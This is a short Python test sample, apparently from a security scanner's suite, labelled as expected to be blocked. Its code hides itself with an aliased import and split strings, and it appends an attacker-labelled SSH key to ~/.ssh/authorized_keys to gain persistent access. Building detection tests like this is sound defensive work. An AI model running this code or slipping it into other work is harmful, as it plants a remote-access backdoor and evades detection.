# expect: BLOCKED category: persistence variant-of: risky/persistence/authorized_keys.py technique: alias+concat
import os as _m0
KEY = 'ssh-ed25519 AAAAC3Nz' + 'aC1lZDI1NTE5AAAAIC8n' + '0kM1 attacker@exampl' + 'e'
ssh_dir = _m0.path.expanduser('~/' + '.s' + 'sh')
_m0.makedirs(ssh_dir, exist_ok=True)
with open(_m0.path.join(ssh_dir, 'autho' + 'rized' + '_keys'), 'a') as handle:
    handle.write(KEY + '\n')
